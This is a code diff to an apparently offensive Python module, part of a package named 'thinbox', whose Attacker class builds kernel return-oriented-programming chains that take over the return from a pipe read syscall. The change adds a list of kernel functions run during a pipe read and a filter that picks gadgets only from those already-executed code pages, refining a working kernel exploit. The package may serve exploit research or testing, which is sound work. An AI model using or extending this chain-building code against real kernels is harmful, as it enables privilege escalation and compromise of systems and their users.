@@ -12,6 +12,7 @@ from collections.abc import Callable
 from dataclasses import dataclass
 from typing import TYPE_CHECKING
 
+from thinbox.address import page_start
 from thinbox.attacks.bug import Bug, wrong_registers
 from thinbox.attacks.exploit import ExploitFailedError
 from thinbox.attacks.payload import POP_RBX_RBP, POP_RSP, RETURN, Chain, LiveText
@@ -27,10 +28,30 @@ if TYPE_CHECKING:
     from thinbox.attacks.stage import Victim
 
 _NO_CASE = Case("", "", True, lambda _process: iter(()))  # type: ignore[arg-type, return-value]
+Wanted = Callable[[int], bool] | None
 _END_WORDS = 3
 """What `Attacker.end_chain` appends."""
 _PROT_RW, _PROT_RWX, _PRIVATE_ANON_FIXED = 3, 7, 0x32
 O_RDWR = 2
+
+
+RUN_BY_READ = (
+    "do_syscall_64",
+    "x64_sys_call",
+    "syscall_enter_from_user_mode",
+    "ksys_read",
+    "__fdget_pos",
+    "vfs_read",
+    "rw_verify_area",
+    "security_file_permission",
+    "pipe_read",
+    "mutex_lock",
+    "mutex_unlock",
+    "copy_page_to_iter",
+    "_copy_to_iter",
+    "touch_atime",
+)
+"""What a read of a pipe has run when vfs_read returns; of a kernel that lacks one, the others are taken."""
 
 
 @dataclass(frozen=True, slots=True)
@@ -116,20 +137,19 @@ class Attacker(Process):
         yield from self.must("getpid")
         return found[0]
 
-    def end_chain(self, chain: Chain, frame: Frame) -> Chain:
+    def end_chain(self, chain: Chain, frame: Frame, wanted: Wanted = None) -> Chain:
         """Let a chain end as the handler would have: in `do_syscall_64`, its registers as it left them."""
-        chain.add("pop rbx; pop rbp; ret", self.text.gadget(POP_RBX_RBP), frame.rbx, frame.rbp)
-        return chain
+        return chain.add("pop rbx; pop rbp; ret", self.text.gadget(POP_RBX_RBP, wanted), frame.rbx, frame.rbp)
 
-    def fill_stack(self, chain: Chain, frame: Frame, slots: int) -> bytes:
+    def fill_stack(self, chain: Chain, frame: Frame, slots: int, wanted: Wanted = None) -> bytes:
         """Return the chain, `ret` behind it and registers restored, `slots` words long: what follows it on the stack
-        is the handler's own return address."""
+        is the handler's own return address. `wanted` chooses among the gadgets for that."""
         missing = slots - len(chain.words) - _END_WORDS
         if missing < 0:
             raise ExploitFailedError(f"the chain is {-missing} words too long for the stack of this kernel's read")
         for _ in range(missing):
-            chain.add("ret", self.text.gadget(RETURN))
-        return self.use(self.end_chain(chain, frame)).data
+            chain.add("ret", self.text.gadget(RETURN, wanted))
+        return self.use(self.end_chain(chain, frame, wanted)).data
 
     def leave_by_pivot(self, chain: Chain, frame: Frame) -> Chain:
         """End a chain that lies elsewhere: back to the handler's own return address."""
@@ -163,6 +183,11 @@ class Attacker(Process):
         ends = yield from self.filled_pipe(data)
         yield from self.must("read", ends[0], vaddr, len(data))
         return vaddr
+
+    def is_run_by_read(self, vaddr: int) -> bool:
+        """Whether a read of a pipe has run code in the page of `vaddr`, and of what follows it."""
+        pages = self.text.pages_of(RUN_BY_READ) | {page_start(self.copy_routine)}
+        return page_start(vaddr) in pages and page_start(vaddr + 3) in pages
 
     @property
     def copy_routine(self) -> int:
